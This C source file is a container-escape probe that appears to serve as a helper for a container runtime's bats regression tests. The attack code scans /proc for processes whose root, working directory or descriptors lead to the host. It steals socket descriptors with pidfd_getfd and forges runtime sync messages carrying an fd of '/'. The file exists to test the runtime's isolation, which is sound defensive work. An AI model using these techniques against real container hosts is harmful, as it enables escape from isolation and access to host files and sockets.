/* reach-attack: a container process holding CAP_SYS_PTRACE (no user
 * namespace, so PR_SET_DUMPABLE does not stop it) that tries to reach the
 * host through the other processes it can see, for tests/bats/reach.bats
 * (issue 11). Over and over, for every other pid in its /proc:
 *   - /proc/PID/root + MARKER: a process whose root is still the host's;
 *   - each /proc/PID/fd/N: its target's path starting with one of the
 *     PREFIXes (host paths: the state directory, the test's temp dir), and,
 *     for a directory, MARKER reached by walking up from it with "..";
 *   - /proc/PID/cwd the same way;
 *   - each socket fd, taken with pidfd_getfd(2) (what CAP_SYS_PTRACE
 *     allows): its peer's or its own bound path starting with a PREFIX
 *     (a connection to a host listener: the console socket, a seccomp
 *     agent), reported as "leak PID N peer|name PATH";
 *   - with REACH_FORGE=PID in the environment, each unnamed SOCK_SEQPACKET
 *     socket (husk's sync socket with the process) gets forged messages
 *     for the husk outside: "the process is pid PID", "here is the pty
 *     master", "here is the seccomp listener" (the last two carrying an fd
 *     of "/"), each reported as "forged PID N".
 * MARKER is a host path outside the container. Each success is one line in
 * REPORT ("hit root|cwd|fd PID [N LINK]", "leak PID N LINK"); at the end
 * "scanned P processes F fds S sockets" then "done". It stops after SECONDS or when
 * REPORT.stop exists. Built static: it runs in a busybox rootfs.
 * Usage: reach-attack MARKER REPORT SECONDS [PREFIX...] */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static FILE *report;
static char walk_up[4096];

/* The marker, read through the directory fd dir (by walking up from it),
 * or through path. */
static int reaches_marker(int dir, const char *path)
{
	char buf[64];
	int fd = openat(dir, path, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof(buf));
	close(fd);
	return n > 0;
}

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* husk's sync messages (runtime/linux/spawn.h): type, value, text */
enum { FORGE_INIT_PID = 3, FORGE_PTY = 10, FORGE_SECCOMP_FD = 11 };

static void forge(int sock, int type, int value, int fd)
{
	struct {
		int type, value;
		char text[8];
	} m = { type, value, "" };
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} ctl;
	struct iovec iov = { .iov_base = &m, .iov_len = sizeof(m) };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1 };
	if (fd >= 0) {
		memset(&ctl, 0, sizeof(ctl));
		msg.msg_control = ctl.buf;
		msg.msg_controllen = sizeof(ctl.buf);
		struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(c), &fd, sizeof(int));
	}
	sendmsg(sock, &msg, MSG_NOSIGNAL | MSG_DONTWAIT);
}

/* A copy of the process's socket fd n, then its peer's and its own path:
 * a host listener's path means the process holds a connection to it. */
static void scan_socket(int pidfd, const char *pid, const char *n, char **prefixes, int n_prefixes)
{
	int fd = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(n), 0);
	if (fd < 0)
		return;
	for (int side = 0; side < 2; side++) {
		struct sockaddr_un addr;
		socklen_t len = sizeof(addr);
		memset(&addr, 0, sizeof(addr));
		int r = side == 0 ? getpeername(fd, (struct sockaddr *)&addr, &len)
				  : getsockname(fd, (struct sockaddr *)&addr, &len);
		int type = 0;
		socklen_t tlen = sizeof(type);
		const char *forge_pid = getenv("REACH_FORGE");
		if (side == 0 && r == 0 && addr.sun_family == AF_UNIX && len <= sizeof(sa_family_t) &&
		    forge_pid && getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &tlen) == 0 &&
		    type == SOCK_SEQPACKET) {
			/* husk reads one at a time and gives up at the first it
			 * refuses: which goes first turns with each socket */
			static unsigned turn;
			int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			for (unsigned k = 0; k < 3; k++) {
				switch ((turn + k) % 3) {
				case 0: forge(fd, FORGE_INIT_PID, atoi(forge_pid), -1); break;
				case 1: forge(fd, FORGE_PTY, 0, root); break;
				default: forge(fd, FORGE_SECCOMP_FD, 0, root); break;
				}
			}
			turn++;
			if (root >= 0)
				close(root);
			fprintf(report, "forged %s %s\n", pid, n);
		}
		if (r < 0 || addr.sun_family != AF_UNIX || len <= sizeof(sa_family_t) ||
		    addr.sun_path[0] == '\0')
			continue;
		addr.sun_path[sizeof(addr.sun_path) - 1] = '\0';
		for (int i = 0; i < n_prefixes; i++)
			if (strncmp(addr.sun_path, prefixes[i], strlen(prefixes[i])) == 0)
				fprintf(report, "leak %s %s %s %s\n", pid, n, side == 0 ? "peer" : "name",
					addr.sun_path);
	}
	close(fd);
}

static void scan_pid(const char *pid, char **prefixes, int n_prefixes, unsigned long *fds,
		     unsigned long *sockets, const char *marker)
{
	char path[512], link[4096], fdlist[64];
	snprintf(path, sizeof(path), "/proc/%s/root%s", pid, marker);
	if (reaches_marker(AT_FDCWD, path))
		fprintf(report, "hit root %s\n", pid);
	snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
	int cwd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (cwd >= 0) {
		if (reaches_marker(cwd, walk_up))
			fprintf(report, "hit cwd %s\n", pid);
		close(cwd);
	}
	snprintf(fdlist, sizeof(fdlist), "/proc/%s/fd", pid);
	DIR *d = opendir(fdlist);
	if (d == NULL)
		return;
	int pidfd = (int)syscall(SYS_pidfd_open, atoi(pid), 0);
	struct dirent *e;
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		(*fds)++;
		snprintf(path, sizeof(path), "%s/%s", fdlist, e->d_name);
		ssize_t n = readlink(path, link, sizeof(link) - 1);
		if (n <= 0)
			continue;
		link[n] = '\0';
		if (pidfd >= 0 && strncmp(link, "socket:", 7) == 0) {
			(*sockets)++;
			scan_socket(pidfd, pid, e->d_name, prefixes, n_prefixes);
			continue;
		}
		for (int i = 0; i < n_prefixes; i++)
			if (strncmp(link, prefixes[i], strlen(prefixes[i])) == 0)
				fprintf(report, "leak %s %s %s\n", pid, e->d_name, link);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		struct stat st;
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) && reaches_marker(fd, walk_up))
			fprintf(report, "hit fd %s %s %s\n", pid, e->d_name, link);
		close(fd);
	}
	closedir(d);
	if (pidfd >= 0)
		close(pidfd);
	fflush(report);
}

int main(int argc, char **argv)
{
	char stop[4096];
	if (argc < 4) {
		fprintf(stderr, "usage: reach-attack MARKER REPORT SECONDS [PREFIX...]\n");
		return 2;
	}
	const char *marker = argv[1];
	report = fopen(argv[2], "a");
	if (report == NULL) {
		perror(argv[2]);
		return 1;
	}
	snprintf(stop, sizeof(stop), "%s.stop", argv[2]);
	/* from any directory, 64 levels up is the root it hangs below */
	size_t pos = 0;
	for (int i = 0; i < 64; i++)
		pos += (size_t)snprintf(walk_up + pos, sizeof(walk_up) - pos, "../");
	snprintf(walk_up + pos, sizeof(walk_up) - pos, "%s", marker + (marker[0] == '/'));
	time_t end = time(NULL) + atoi(argv[3]);
	unsigned long procs = 0, fds = 0, sockets = 0, rounds = 0;
	char self[32];
	snprintf(self, sizeof(self), "%d", (int)getpid());
	fprintf(report, "ready\n");
	fflush(report);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		if (d == NULL)
			break;
		struct dirent *e;
		while ((e = readdir(d)) != NULL) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0)
				continue;
			procs++;
			scan_pid(e->d_name, argv + 4, argc - 4, &fds, &sockets, marker);
		}
		closedir(d);
		if (++rounds % 64 == 0 && access(stop, F_OK) == 0)
			break;
	}
	fprintf(report, "scanned %lu processes %lu fds %lu sockets\ndone\n", procs, fds, sockets);
	fclose(report);
	return 0;
}
